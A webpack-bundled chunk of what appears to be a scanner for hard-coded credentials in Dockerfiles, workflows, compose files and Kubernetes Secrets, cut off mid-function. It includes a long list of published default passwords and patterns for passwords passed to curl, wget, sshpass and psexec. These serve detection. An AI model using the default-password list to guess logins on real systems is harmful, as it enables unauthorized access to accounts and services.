export const id = 809;
export const ids = [809];
export const modules = {

/***/ 29:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   k: () => (/* binding */ matchesGlob)
/* harmony export */ });
/* harmony import */ var picomatch__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(4006);

const compiled = new Map();
/** Whether a path or a rule id matches a glob (`k8s/*`, `deploy/**`). A glob that ends in `/` means all below. Names that start with a dot are matched too. */
function matchesGlob(glob, value) {
    let matcher = compiled.get(glob);
    if (matcher === undefined) {
        matcher = plainMatcher(glob) ?? compile(glob.endsWith('/') ? `${glob}**` : glob);
        compiled.set(glob, matcher);
    }
    return matcher(value);
}
/** picomatch throws at nothing and at too much. A change may bring either, in an exception for one line: such a glob matches nothing. */
function compile(glob) {
    return glob === '' || glob.length > longest ? () => false : picomatch__WEBPACK_IMPORTED_MODULE_0__(glob, { dot: true, nonegate: true });
}
/** Far above any name of a rule or path that is meant. */
const longest = 4096;
/** A name without signs, and a folder anywhere (two stars, `/vendor/`, two stars), which every run asks for: a pattern need not be compiled for them. */
function plainMatcher(glob) {
    if (/^[\w-]+(?:\/[\w-]+)*$/.test(glob))
        return (value) => value === glob;
    const folder = /^\*\*\/([\w-]+)\/\*\*$/.exec(glob)?.[1];
    return folder === undefined ? null : (value) => `/${value}/`.includes(`/${folder}/`);
}


/***/ }),

/***/ 7849:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Km: () => (/* binding */ defineRule),
/* harmony export */   TE: () => (/* binding */ isChangeRule),
/* harmony export */   bS: () => (/* binding */ safeFix),
/* harmony export */   ed: () => (/* binding */ unsafeFix),
/* harmony export */   mM: () => (/* binding */ defineChangeRule)
/* harmony export */ });
/* unused harmony export exampleFiles */
const defineRule = (rule) => rule;
const defineChangeRule = (rule) => rule;
/** A fix that keeps the program's meaning but for the finding; none where one of its edits could not be made. */
const safeFix = (title, ...edits) => makeFix(title, true, edits);
/** A fix that the program may have to be changed for. */
const unsafeFix = (title, ...edits) => makeFix(title, false, edits);
function makeFix(title, safe, made) {
    const edits = made.filter((edit) => edit !== undefined);
    return edits.length === made.length && edits.length > 0 ? { title, safe, edits } : undefined;
}
const isChangeRule = (rule) => 'compare' in rule;
const examplePaths = {
    dockerfile: 'Dockerfile',
    image: 'Dockerfile',
    compose: 'compose.yaml',
    workflow: '.github/workflows/ci.yml',
    secret: 'settings.env',
};
/** The files of an example; a plain text stands in the file that its area is about. */
function exampleFiles(rule, example) {
    if (typeof example !== 'string')
        return example;
    const [area = ''] = rule.id.split('/');
    return { [examplePaths[area] ?? 'manifest.yaml']: example };
}


/***/ }),

/***/ 1115:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   D4: () => (/* binding */ decode),
/* harmony export */   KH: () => (/* binding */ isText),
/* harmony export */   y4: () => (/* binding */ decodeBase64)
/* harmony export */ });
/** The shortest run worth a look: eighteen characters, of which a name, a sign and a password could be made. */
const run = /(?<![A-Za-z0-9+/_-])[A-Za-z0-9+/]{24,}={0,2}(?![A-Za-z0-9+/_-])/g;
const longest = 400_000;
/** What is written in base64 in a text and is a text itself. Hashes and binary data decode to no text, and are seen to in their first bytes. */
function* decodeBase64(text) {
    for (const match of text.matchAll(run)) {
        const encoded = match[0];
        if (encoded.length > longest || !isText(decode(encoded.slice(0, 16))))
            continue;
        const decoded = decode(encoded);
        if (isText(decoded))
            yield { start: match.index, end: match.index + encoded.length, text: decoded };
    }
}
const decode = (encoded) => Buffer.from(encoded, 'base64').toString('latin1');
/** Latin-1 control characters are the mark of binary data. */
const isText = (text) => !/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]/.test(text);


/***/ }),

/***/ 96:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   l: () => (/* binding */ isDefaultPassword)
/* harmony export */ });
/** Passwords that programs come with or that people choose first, as published in lists of default credentials. */
const defaults = new Set(`admin administrator root toor password passwd passw0rd p@ssw0rd p@ssword pa55word pass password1 password12 password123 password1234 pass123 admin1 admin12 admin123 admin1234
  root123 postgres postgresql mysql mariadb mongo mongodb redis rabbitmq guest user user123 test test123 test1234 testing demo default secret s3cr3t s3cret
  supersecret secretpassword topsecret mysecretpassword my-secret-pw mysecret mypassword my-password changeme changeit change-me change_me changemeplease letmein qwerty qwerty123
  welcome welcome1 welcome123 123 1234 12345 123456 1234567 12345678 123456789 1234567890 111111 000000 minioadmin minio minio123 grafana sonar sonarqube nexus jenkins tomcat
  neo4j cassandra couchbase oracle sa db2inst1 wildfly keycloak vagrant raspberry ubuntu calvin alpine elastic kibana logstash influxdb bitnami wordpress drupal joomla
  odoo nextcloud gitea gitlab harbor12345 rancher portainer airflow superset metabase hive hadoop spark zabbix nagios icinga cisco ansible docker kubernetes
  pgadmin phpmyadmin example insecure unsafe weak notsecure abc123 abcd1234 iloveyou monkey dragon master system manager operator service super`.split(/\s+/));
const isDefaultPassword = (value) => defaults.has(value.toLowerCase());


/***/ }),

/***/ 793:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   T_: () => (/* binding */ isPrivateKey),
/* harmony export */   Vb: () => (/* binding */ isPasswordArgument),
/* harmony export */   jm: () => (/* binding */ isDefaultLogin),
/* harmony export */   mO: () => (/* binding */ isConnectionString),
/* harmony export */   oQ: () => (/* binding */ isWeakLogin),
/* harmony export */   sP: () => (/* binding */ isPasswordHash),
/* harmony export */   t8: () => (/* binding */ describeCredential),
/* harmony export */   zd: () => (/* binding */ isProviderToken)
/* harmony export */ });
const isPrivateKey = ({ kind }) => kind.endsWith('private-key');
const isConnectionString = ({ kind }) => kind === 'connection-string';
const isPasswordHash = ({ kind }) => kind === 'password-hash' || kind === 'kerberos-hash';
/** Kinds of the patterns for commands; providers that issue passwords have their own name for them (`bitbucket-app-password`). */
const isPasswordArgument = ({ kind }) => /^(?:curl|wget|sshpass|psexec|net-use|docker-login|mysql|powershell|netrc|network-credential|directory-entry|command|server|sql|call)-password$/.test(kind);
const isDefaultLogin = ({ kind }) => kind === 'default-login';
/** With a password that everybody tries first, or with one of documentation's. */
const isWeakLogin = ({ kind }) => kind === 'default-login' || kind === 'possible-login';
const others = [isPrivateKey, isConnectionString, isPasswordHash, isPasswordArgument, isWeakLogin];
const isProviderToken = (credential) => !others.some((is) => is(credential));
/** Says what it is and never what it says: at most the beginning that its provider publishes. */
function describeCredential({ kind, prefix, decodedFrom }) {
    const shown = prefix === undefined ? '' : ` "${prefix}…"`;
    const encoded = decodedFrom === undefined ? '' : `, encoded in ${decodedFrom}`;
    return `hard-coded credential: ${kind}${shown}${encoded}`;
}


/***/ }),

/***/ 3841:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   S: () => (/* binding */ judge),
/* harmony export */   _: () => (/* binding */ valuesToHide)
/* harmony export */ });
/* harmony import */ var _base64_js__WEBPACK_IMPORTED_MODULE_6__ = __webpack_require__(1115);
/* harmony import */ var _default_passwords_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(96);
/* harmony import */ var _jwt_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(6303);
/* harmony import */ var _name_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(2135);
/* harmony import */ var _placeholder_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(2415);
/* harmony import */ var _published_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(9560);
/* harmony import */ var _value_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(2159);







const judgements = new WeakMap();
/** Where a value counts whatever its name is. */
const speakingPlaces = new Set(['secret-data', 'secret-string', 'credential-file']);
/** Asked by several rules, judged once. */
function judge(named) {
    const known = judgements.get(named);
    if (known !== undefined)
        return known;
    // Most values are told by their name alone: nothing is kept for them.
    if (!speakingPlaces.has(named.place) && (0,_name_js__WEBPACK_IMPORTED_MODULE_1__/* .strengthOf */ .NY)(named.name) === null)
        return null;
    const judgement = judgeAnew(named);
    judgements.set(named, judgement);
    return judgement;
}
function judgeAnew(named) {
    const { place, name, value } = named;
    if (place === 'secret-data' || place === 'secret-string')
        return judgeSecret(named);
    const strength = (0,_name_js__WEBPACK_IMPORTED_MODULE_1__/* .strengthOf */ .NY)(name);
    if (place === 'credential-file')
        return isCredentialOfFile(name, value) ? 'credential-file' : null;
    if (isLabel(named))
        return null;
    if (strength === 'password' && (0,_value_js__WEBPACK_IMPORTED_MODULE_4__/* .isPassphrase */ .jH)(value))
        return isGivenAsIs(named) ? 'password' : 'possible-credential';
    if (strength === null || !(0,_value_js__WEBPACK_IMPORTED_MODULE_4__/* .isLiteral */ .c$)(value) || saysItself(name, value) || (0,_jwt_js__WEBPACK_IMPORTED_MODULE_5__/* .isPublicJwt */ .ls)(value))
        return null;
    if (strength === 'weak')
        return place === 'environment' && /^\S{8,}$/.test(value) && !(0,_value_js__WEBPACK_IMPORTED_MODULE_4__/* .isNameOfSecret */ .TO)(value) ? 'possible-credential' : null;
    if (strength === 'some-key')
        return judgeSomeKey(named);
    return strength === 'password' ? judgePassword(named) : judgeKey(named);
}
/** Quoted or an entry of its own, for a process: not the rest of a line of prose. */
const isGivenAsIs = ({ place, entry, document, span }) => place === 'environment' && (entry !== undefined || /^["']/.test(document.text.slice(span)));
function judgeSomeKey({ value }) {
    if (value.length < 16 || !(0,_value_js__WEBPACK_IMPORTED_MODULE_4__/* .looksRandom */ .EZ)(value))
        return null;
    // Fingerprints and hashes are of hexadecimal digits alone, names of one case.
    const isMixed = value.length >= 20 && /[a-z]/.test(value) && /[A-Z]/.test(value) && /\d/.test(value);
    return isMixed ? 'password' : 'possible-credential';
}
const hidden = new WeakMap();
/** Where values stand that no report may print. Passwords that everybody knows are not among them. */
function valuesToHide(document) {
    let spans = hidden.get(document);
    if (spans === undefined) {
        const isSecret = (named) => ![null, 'default-password'].includes(judge(named)) && !(0,_default_passwords_js__WEBPACK_IMPORTED_MODULE_0__/* .isDefaultPassword */ .l)(named.value);
        spans = document
            .grains('namedValue')
            .filter(isSecret)
            .map(({ span }) => span);
        hidden.set(document, spans);
    }
    return spans;
}
/** Where a person writes down the password itself; a chart's `password: db-credentials` is the name of a Secret. */
function judgePassword(named) {
    const { place, value, document } = named;
    if (isOfTestRun(named))
        return 'possible-credential';
    if ((0,_default_passwords_js__WEBPACK_IMPORTED_MODULE_0__/* .isDefaultPassword */ .l)(value))
        return place === 'code' || isProse(document) || isComment(named) ? 'possible-credential' : 'default-password';
    if (value.length < 4 || (0,_published_js__WEBPACK_IMPORTED_MODULE_3__/* .isPublished */ .H)(value))
        return null;
    if ((0,_value_js__WEBPACK_IMPORTED_MODULE_4__/* .isNameOfSecret */ .TO)(value))
        return place === 'environment' || place === 'argument' ? 'possible-credential' : null;
    if ((0,_value_js__WEBPACK_IMPORTED_MODULE_4__/* .isUuid */ .O1)(value) || /^\d+$/.test(value))
        return value.length >= 4 ? 'possible-credential' : null;
    if (isConstant(value))
        return null;
    const isWord = /^[A-Za-z]+$/.test(value) && !(0,_value_js__WEBPACK_IMPORTED_MODULE_4__/* .looksRandom */ .EZ)(value);
    return isWord && (place === 'code' || isProse(document) || (place === 'argument' && !isCommand(document)))
        ? 'possible-credential'
        : 'password';
}
/**
 * What a workflow gives a database that it starts for its tests: it opens what is gone with the job, and only the job reaches it. Elsewhere in its variables that
 * is told by a word that nobody would take for a password of something that stays.
 */
function isOfTestRun({ document, place, value, subject }) {
    if (document.kind !== 'workflow' || place !== 'environment' || (0,_value_js__WEBPACK_IMPORTED_MODULE_4__/* .looksRandom */ .EZ)(value))
        return false;
    return ofService.test(subject) || (0,_default_passwords_js__WEBPACK_IMPORTED_MODULE_0__/* .isDefaultPassword */ .l)(value) || /^[a-z]+$/.test(value);
}
const ofService = /^jobs \S+ services \S+ env /;
/** A password that everybody knows is no leak, and behind the sign of a comment it is not in force either. A directive of C is no comment. */
const isComment = ({ document: { text }, span }) => /^\s*(?:#(?!\s*define\b)|\/\/|;)/.test(text.value.slice(text.value.lastIndexOf('\n', span.start - 1) + 1, span.start));
/** Written for readers, to whom a password that everybody knows is a sample. */
const isProse = ({ text }) => /\.(?:mdx?|markdown|rst|adoc|asciidoc|html?)$/i.test(text.path);
const scripts = /(?:\.(?:sh|bash|zsh|ksh|bat|cmd|ps1|mk)|(?:^|\/)[^.]+)$/i;
/** Where an option is given, and not spoken of. */
const isCommand = ({ kind, text }) => kind !== 'text' || scripts.test(text.path);
/** A name in capitals: of a variable, of an answer to be filled in. */
const isConstant = (value) => /^[A-Z][A-Z0-9]*_[A-Z0-9_]+$/.test(value);
function judgeKey(named) {
    const { name, place, value } = named;
    if ((0,_published_js__WEBPACK_IMPORTED_MODULE_3__/* .isPublished */ .H)(value))
        return null;
    if ((0,_value_js__WEBPACK_IMPORTED_MODULE_4__/* .looksRandom */ .EZ)(value))
        return 'password';
    if (place === 'environment' && (0,_default_passwords_js__WEBPACK_IMPORTED_MODULE_0__/* .isDefaultPassword */ .l)(value))
        return isAccessKey(name) ? null : isComment(named) ? 'possible-credential' : 'default-password';
    if ((0,_value_js__WEBPACK_IMPORTED_MODULE_4__/* .isNameOfSecret */ .TO)(value) || isConstant(value) || (0,_placeholder_js__WEBPACK_IMPORTED_MODULE_2__/* .saysSample */ .V$)(value))
        return null;
    if ((0,_value_js__WEBPACK_IMPORTED_MODULE_4__/* .isUuid */ .O1)(value))
        return /[1-9a-f]/.test(value) ? 'possible-credential' : null;
    const isMadeUp = value.length >= 8 && /[A-Za-z]/.test(value) && /\d|[^\w./:@-]/.test(value);
    return isMadeUp || (place === 'environment' && /^[\w.-]{6,}$/.test(value)) ? 'possible-credential' : null;
}
/** The half of a pair that names its owner, as a user does (AWS, "Access keys"; MinIO's root user was called so): the secret key is the other. */
const isAccessKey = (name) => /(?<!\bsecret )\baccess key$/.test((0,_name_js__WEBPACK_IMPORTED_MODULE_1__/* .wordsOf */ .Z9)(name).join(' '));
/** `password: Password`, `token = "token"`: a label, a column, a key in a catalogue of messages. The word in small letters may be a default. */
function saysItself(name, value) {
    const [words, said] = [(0,_name_js__WEBPACK_IMPORTED_MODULE_1__/* .wordsOf */ .Z9)(name).join(''), (0,_name_js__WEBPACK_IMPORTED_MODULE_1__/* .wordsOf */ .Z9)(value).join('')];
    return said !== '' && words.endsWith(said) && !((0,_default_passwords_js__WEBPACK_IMPORTED_MODULE_0__/* .isDefaultPassword */ .l)(value) && /^[a-z]+$/.test(value));
}
/** Texts that people read, in whatever language. */
const messages = /(?:^|\/)(?:i18n|l10n|locales?|lang|langs|languages?|translations?|messages?)(?:[/._-]|$)|(?:^|\/)strings\.xml$|\.(?:resx|po|pot|strings|xlf|xliff|arb|ftl)$/i;
const isLabel = ({ document, value }) => messages.test(document.text.path) && !/\d/.test(value);
const kubeconfig = /^(?:client-key-data|token|password|auth|identitytoken|registrytoken|_authToken|_password|id-token|refresh-token|client-secret)$/i;
const isCredentialOfFile = (name, value) => kubeconfig.test(name) && (0,_value_js__WEBPACK_IMPORTED_MODULE_4__/* .isLiteral */ .c$)(value);
/** What each type of Secret is for (Kubernetes, "Types of Secret"); null where every key may be secret. */
const secretKeys = {
    'kubernetes.io/tls': /^tls\.key$/,
    'kubernetes.io/basic-auth': /^password$/,
    'kubernetes.io/ssh-auth': /^ssh-privatekey$/,
    'kubernetes.io/dockerconfigjson': /^\.dockerconfigjson$/,
    'kubernetes.io/dockercfg': /^\.dockercfg$/,
    'bootstrap.kubernetes.io/token': /^token-secret$/,
    'kubernetes.io/service-account-token': /^token$/,
};
/** Where Kubernetes wants a private key in PEM: other words open nothing. */
const pemKey = /^(?:tls\.key|ssh-privatekey)$/;
const isKey = (value) => /PRIVATE KEY|MII[A-Za-z]/.test(value) || (0,_value_js__WEBPACK_IMPORTED_MODULE_4__/* .looksRandom */ .EZ)(value.trim());
/** Keys of Secrets whose values everybody may know. */
const publicKey = /(?:^|[-_.])(?:user|username|usr|login|host|hostname|hosts|port|database|dbname|db|schema|name|namespace|endpoint|url|uri|region|bucket|email|domain|zone|crt|cert|certificate|ca|pub|public|id|ids|type|version|enabled|mode|scheme|protocol|realm|group|role|index|path|file|size|server|servers|expiration|description|usage[\w-]*|groups?|issuer|audience|project|account|org|organization|tenant|env|environment|level|timeout|interval)$/i;
function judgeSecret({ name, value, place, secretType = 'Opaque' }) {
    const keys = secretKeys[secretType];
    const decoded = place === 'secret-data' ? (0,_base64_js__WEBPACK_IMPORTED_MODULE_6__/* .decode */ .D4)(value.replace(/\s/g, '')) : value;
    if (decoded === '' || isEncrypted(value) || (keys !== undefined && !keys.test(name)))
        return null;
    const isBinary = !(0,_base64_js__WEBPACK_IMPORTED_MODULE_6__/* .isText */ .KH)(decoded);
    if (isBinary)
        return place === 'secret-data' && /^[A-Za-z0-9+/\s]{24,}={0,2}\s*$/.test(value) && !isPublicKey(name) ? 'kubernetes-secret' : null;
    if (keys !== undefined)
        return isWritten(decoded) && (!pemKey.test(name) || isKey(decoded)) ? 'kubernetes-secret' : null;
    return judgeOpaque(name, decoded.trim(), (0,_name_js__WEBPACK_IMPORTED_MODULE_1__/* .strengthOf */ .NY)(name));
}
const isPublicKey = (name) => !isStrong((0,_name_js__WEBPACK_IMPORTED_MODULE_1__/* .strengthOf */ .NY)(name)) && publicKey.test(name.replace(/([a-z0-9])([A-Z])/g, '$1-$2'));
function judgeOpaque(name, value, strength) {
    if (isStrong(strength) && (0,_default_passwords_js__WEBPACK_IMPORTED_MODULE_0__/* .isDefaultPassword */ .l)(value))
        return isAccessKey(name) ? null : 'default-password';
    if (isPublicKey(name) || !isWritten(value))
        return null;
    if (isStrong(strength))
        return 'kubernetes-secret';
    return (0,_value_js__WEBPACK_IMPORTED_MODULE_4__/* .looksRandom */ .EZ)(value) ? 'kubernetes-secret' : value.length >= 6 ? 'possible-credential' : null;
}
/** SOPS, sealed and templated values are safe in the open, or are not there yet. */
const isEncrypted = (value) => /ENC\[|\{\{|\$\{|^<[^>]*>$|^Ag[A-Za-z][A-Za-z0-9+/]{300,}/.test(value);
/** Unlike other values, one in a Secret may be a whole file or a sentence. */
const isWritten = (value) => value.includes('\n') || value.includes('{')
    ? !/BEGIN CERTIFICATE|BEGIN PUBLIC|\{\{|\$\{/.test(value)
    : (0,_value_js__WEBPACK_IMPORTED_MODULE_4__/* .isLiteral */ .c$)(value.replaceAll(' ', ''));
const isStrong = (strength) => strength === 'password' || strength === 'key';


/***/ }),

/***/ 6303:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   ky: () => (/* binding */ isJwt),
/* harmony export */   ls: () => (/* binding */ isPublicJwt),
/* harmony export */   uo: () => (/* binding */ jwtForm)
/* harmony export */ });
/**
 * RFC 7519 in its compact form, with a signature: two objects in base64url, the brace of each before a quote or before the white space that some programs
 * write there.
 */
const jwtForm = /(?<![\w-])(?:ey[JA]|ew[o0k])[\w-]{10,2000}\.(?:ey[JA]|ew[o0k])[\w-]{10,8000}\.[\w-]{20,1500}(?![\w-])/g;
const isJwt = (text) => payloadOf(text) !== null;
/** The sample of RFC 7519's tools (subject 1234567890, John Doe), and keys that are meant for browsers. */
function isPublicJwt(text) {
    const payload = payloadOf(text);
    return payload !== null && ((payload.sub === '1234567890' && /john doe/i.test(String(payload.name))) || payload.role === 'anon');
}
function payloadOf(text) {
    if (!/^e[yw]/.test(text))
        return null;
    try {
        const payload = JSON.parse(Buffer.from(text.split('.')[1] ?? '', 'base64url').toString('utf8'));
        return typeof payload === 'object' && payload !== null ? payload : null;
    }
    catch {
        return null;
    }
}


/***/ }),

/***/ 2135:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   A1: () => (/* binding */ actionsSecret),
/* harmony export */   NY: () => (/* binding */ strengthOf),
/* harmony export */   Z9: () => (/* binding */ wordsOf)
/* harmony export */ });
/** A set costs nothing to ask in a process that has just started, an expression has to be compiled first. */
const oneOf = (words) => new Set(words.split(' '));
/** Words behind the one that counts: `DB_PASSWORD_PROD`, `tokenValue`, `password1`. */
const trailing = oneOf('value val text plain plaintext cleartext string str b64 base64 encoded default old new current prod production dev development test testing staging stage qa primary secondary main backup base live sandbox local data');
/** `pass` and `pw` only as whole words or behind a word that a password often has before it; the others also at the end of words written as one (`dbpassword`). */
const password = /(?:password|passwd|passphrase|passcode|passwort|kennwort|pwd)s?$/;
const shortPassword = /^(?:(?:admin|bind|cert|client|db|ftp|http|https|key|keystore|ldap|login|mail|master|my|mysql|pg|proxy|redis|require|root|server|smtp|sql|ssh|ssl|store|sudo|truststore|user|vnc|wifi|wlan)?(?:pass|pw)|pswd|psw)$/;
const fusedKey = /^masterauth$|(?:api|secret|access|private|auth|encryption|master|account|license|signing)keys?$|(?:auth|access|api|bot|refresh|bearer|session|id)tokens?$|(?:client|app|api|webhook|shared|jwt|session|cookie|oauth|auth|token|csrf|hmac|signing)secrets?$/;
const secretWord = oneOf('secret secrets token tokens credential credentials cred creds bearer jwt psk apikey apikeys auth authorization pat hmac salt pepper signature sig dsn');
/** Words that make a key one that opens something. */
const keyOf = oneOf('api access secret private encryption encrypt encoder crypt crypto cipher signing sign signature master auth authentication account shared storage service license licence app application session cookie jwt hmac aes rsa deploy write admin subscription server client root webhook host registration activation base flask django rails data db database user consumer developer dev integration ingest installation function vault unseal recovery gossip preshared psk');
/** What is said of a password, a key or a token by a name that ends in such a word, and is not it. */
const publicWord = oneOf('public pub publishable pk site existing next prev previous page continuation cursor primary foreign partition sort routing cache idempotency map hash group checksum digest fingerprint hashed encrypted masked recv no disable enable skip use has is show hide allow require requires need needs ignore reset forgot change confirm with without max min num count total');
/** Tokens that say where a list or a stream goes on, and those that a language model counts. */
const openToken = oneOf('pagination starting sequence input output');
/** Keys that everybody may know, and keys of another meaning. */
const openKey = oneOf('gpg pgp apt rpm yum repo repository i18n translation message search lookup field column index unique object s3 gcs blob bucket config registry hot short arrow dict json label tag group order filter');
/** Words of which one in a longer name may make its value a secret. */
const telling = oneOf('secret password passwd');
/** What a longer name may end in that has such a word in it: what belongs to one. */
const belonging = oneOf('file files path paths dir url uri name names ref refs id ids arn type length ttl expiry expires expiration provider manager store backend engine mount version policy enabled key keys prefix suffix env namespace role region scope scopes audience issuer header field fields timeout interval count size format algorithm encoding hash salt mode method host hosts port user username email endpoint server service class config rotation location project label title message description template pattern regex validation review request response');
/** The words of a name written in any of the usual ways: `DB_PASSWORD`, `dbPassword`, `spring.datasource.password`, `db-password`. */
const wordsOf = (name) => name
    .replace(/([a-z0-9])([A-Z])|(\d)([a-z]{4})/g, '$1$3 $2$4')
    .replace(/([A-Z]+)([A-Z][a-z])/g, '$1 $2')
    .toLowerCase()
    .split(/[^a-z0-9]+/)
    .filter((word) => word !== '');
/** A name that GitHub takes for a secret: none of those begins with a digit or with GitHub's own prefix, but for its token. */
function actionsSecret(name) {
    const variable = wordsOf(name).join('_').toUpperCase();
    return variable === 'GITHUB_TOKEN' ? variable : variable.replace(/^GITHUB_/, 'GH_').replace(/^(?=\d)/, '_');
}
const strengths = new Map();
/** Few names make up nearly all of a repository's; a hostile file may hold any number. */
const mostKept = 10_000;
/** Judged by its last word: `PASSWORD_FILE` is a file, `passwordPolicy` a policy, `tokenUrl` a URL. */
function strengthOf(name) {
    // The shell's own names of the folder it is in.
    if (name === 'PWD' || name === 'OLDPWD')
        return null;
    let strength = strengths.get(name);
    if (strength === undefined) {
        strength = strengthAnew(name);
        if (strengths.size < mostKept)
            strengths.set(name, strength);
    }
    return strength;
}
const isTrailing = (word) => trailing.has(word) || /^\d{1,4}$/.test(word);
/** In every name that has a strength, whatever else is asked of it: most have none, and need not be taken apart. */
const inStrongNames = /pass|pw|psw|kennwort|key|token|secret|cred|bearer|jwt|psk|auth|pat|hmac|salt|pepper|sig|dsn/;
function strengthAnew(name) {
    if (!inStrongNames.test(name.toLowerCase()))
        return null;
    const words = wordsOf(name);
    while (words.length > 1 && isTrailing(words.at(-1) ?? ''))
        words.pop();
    const last = (words.at(-1) ?? '').replace(/\d{1,3}$/, '');
    const before = words.at(-2) ?? '';
    const isKey = last === 'key' || last === 'keys';
    if (words.slice(0, -1).some((word) => publicWord.has(word)))
        return null;
    if ((last === 'token' || last === 'tokens') && openToken.has(before))
        return null;
    if (password.test(last) || shortPassword.test(last))
        return 'password';
    if (isKey && keyOf.has(before))
        return 'key';
    if (isKey && words.length > 1 && !openKey.has(before))
        return 'some-key';
    if (fusedKey.test(last) || secretWord.has(last))
        return 'key';
    return words.some((word) => telling.has(word)) && !belonging.has(last) ? 'weak' : null;
}


/***/ }),

/***/ 6223:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  Q: () => (/* binding */ matchingProviders),
  r: () => (/* binding */ providers)
});

// EXTERNAL MODULE: ./lib/source/once.js
var once = __webpack_require__(9160);
// EXTERNAL MODULE: ./lib/credentials/base64.js
var base64 = __webpack_require__(1115);
// EXTERNAL MODULE: ./lib/credentials/placeholder.js
var placeholder = __webpack_require__(2415);
// EXTERNAL MODULE: ./lib/credentials/value.js
var credentials_value = __webpack_require__(2159);
;// CONCATENATED MODULE: ./lib/credentials/pack/length.js
/**
 * Length of the shortest text that a regular expression matches, in UTF-16 units: a lower bound where it uses more than literals, classes, groups,
 * alternatives and quantifiers.
 */
function shortestMatch(source) {
    const alternatives = [0];
    for (const [piece, group, count] of pieces(source)) {
        if (piece === '|')
            alternatives.push(0);
        else
            alternatives.push((alternatives.pop() ?? 0) + count * (group === undefined ? 1 : shortestMatch(group)));
    }
    return Math.min(...alternatives);
}
/** Each part of one level with the least number of times that it stands: a group with what is in it, a class, an escape, a character. */
function* pieces(source) {
    const part = /\[(?:\\.|[^\]\\])*\]|\\.|./sy;
    for (let at = 0; at < source.length;) {
        const end = source[at] === '(' ? groupEnd(source, at) : at + (matchAt(part, source, at)?.length ?? 1);
        const piece = source.slice(at, end);
        const quantifier = matchAt(/(?:[?*+]|\{\d+(?:,\d*)?\})\??/y, source, end) ?? '';
        const count = quantifier === '' || quantifier[0] === '+' ? 1 : Number(/^\{(\d+)/.exec(quantifier)?.[1] ?? 0);
        const inner = piece.length > 1 && piece[0] === '(' ? piece.slice(1, -1) : undefined;
        yield [piece, inner === undefined ? undefined : /^\?(?:[=!]|<[=!])/.test(inner) ? '' : inner.replace(/^\?(?::|<\w+>)/, ''), count];
        at = end + quantifier.length;
    }
}
function groupEnd(source, start) {
    let depth = 0;
    for (let at = start; at < source.length; at++) {
        if (source[at] === '\\')
            at++;
        else if (source[at] === '[')
            at += (matchAt(/\[(?:\\.|[^\]\\])*\]/y, source, at)?.length ?? 1) - 1;
        else if (source[at] === '(')
            depth++;
        else if (source[at] === ')' && --depth === 0)
            return at + 1;
    }
    return source.length;
}
function matchAt(expression, text, at) {
    expression.lastIndex = at;
    return expression.exec(text)?.[0];
}

;// CONCATENATED MODULE: ./lib/credentials/pack/survey.js
const shortestRun = 20;
/**
 * A sign between a name and a value: before it what `named` allows there, behind it no less than eight characters of which the values of all
 * names are made. The value's length is bounded, as a run of such characters may hold any number of signs.
 */
const sign = /[=:,(>](?=(\s{0,4}(?:[a-z]?["'`]|\\")?(?:(?:bearer|basic|token|ssws)\s)?)([\w.~+/=%:-]{8,100}))(?<=([\s\S]?[\w .-]{2,})["'`\])]{0,2}\s{0,4}[=:]?.)/gi;
/** What a pattern asks for is looked for when the first one asks. */
class LazySurvey {
    text;
    lower;
    #runs;
    #values;
    #names;
    constructor(text) {
        this.text = text;
        this.lower = text.toLowerCase();
    }
    get runs() {
        this.#runs ??= Array.from(this.text.matchAll(longRun), ({ index, 0: { length } }) => ({ start: index, end: index + length }));
        return this.#runs;
    }
    get values() {
        this.#values ??= Array.from(this.text.matchAll(sign), namedPlace);
        return this.#values;
    }
    get names() {
        this.#names ??= this.values.map(({ name }) => name).join('\n');
        return this.#names;
    }
}
const longRun = /(?<![\w-])[\w-]{20,}/g;
const survey = (text) => new LazySurvey(text);
function namedPlace({ index, 1: between = '', 2: value = '', 3: name = '' }) {
    const start = index + 1 + between.length;
    return { name: name.toLowerCase(), start, end: start + value.length };
}
/** Whether a value of this form may stand beside a name that holds one of these literals. */
function valueBeside(surveyed, literals, shortest, value) {
    const { text, values, names } = surveyed;
    const isIn = (name) => literals.some((literal) => name.includes(literal));
    return isIn(names) && values.some(({ name, start, end }) => end - start >= shortest && isIn(name) && matchesAt(value(), text, start));
}
function matchesAt(expression, text, at) {
    expression.lastIndex = at;
    return expression.test(text);
}
/** Whether one of these literals stands in a run of at least this length. */
const inRun = ({ text, runs }, literals, length) => length < shortestRun ||
    runs.some(({ start, end }) => {
        if (end - start < length)
            return false;
        const run = text.slice(start, end).toLowerCase();
        return literals.some((literal) => run.includes(literal));
    });
/** Whether a run of at least this length follows one of these literals, which end in another character, directly. */
const runBehind = ({ text, runs }, literals, length) => runs.some(({ start, end }) => end - start >= length && literals.some((literal) => text.endsWith(literal, start)));
function places(text, literal) {
    const found = [];
